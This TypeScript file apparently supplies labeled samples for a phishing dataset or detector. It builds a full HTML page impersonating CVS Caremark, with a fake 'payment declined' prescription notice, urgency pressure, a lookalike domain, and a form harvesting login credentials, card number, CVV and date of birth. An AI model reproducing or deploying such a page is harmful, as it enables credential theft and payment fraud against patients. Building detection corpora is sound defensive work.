import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, chunks, codes, css, dotIcon, hex, logos, shell } from '../parts/yt-kit.js';

/** HSA/FSA benefit-card kits and pharmacy-benefit (PBM) payment kits. */


// ---- CVS Caremark: mail-order prescription "on hold, payment declined"
const caremarkKit = shell({
  title: 'Caremark.com | Order on hold',
  favicon: dotIcon('#cc0000'),
  css: css.portal + `.btn{background:#cc0000;border-radius:4px}.rx{border:1px solid #e3e3e3;border-radius:6px;padding:12px;font-size:14px;margin-bottom:16px;background:#fafafa}`,
  body: `<div class="top">${logos.caremark}<a href="#">Sign in</a></div>
<div class="card" style="max-width:480px">
  <h1>Your order is on hold</h1>
  <div class="rx"><b>Order #CM-88102934</b><br>JARDIANCE 25 MG TABLET · 90-day supply<br>Ship to: on file · Copay: <b>$47.00</b><br><span style="color:#cc0000">Payment method declined. Order will be cancelled in 48 hours.</span></div>
  <form method="post" action="/rx/pay/confirm.php">
    <label>Caremark.com email</label><input type="email" name="email" required>
    <label>Password</label><input type="password" name="password" required>
    <label>Cardholder name</label><input type="text" name="holder" required>
    <label>Card number</label><input type="tel" name="pan" required>
    <div style="display:flex;gap:10px"><div style="flex:1"><label>Expiration</label><input type="text" name="exp" required></div><div style="flex:1"><label>CVV</label><input type="tel" name="cvv" required></div></div>
    <label>Date of birth</label><input type="text" name="dob" required>
    <button class="btn">Update payment and release order</button>
  </form>
</div>
<div class="foot">© 2025 CVS Caremark. All rights reserved.</div>`,
});

export const entries: Entry[] = [
{
  id: 'yt-caremark-order-hold-card',
  label: 'phishing',
  kind: 'pbm-payment-kit',
  url: 'https://caremark-rxorders.com/rx/order/CM-88102934',
  body: caremarkKit,
},
];
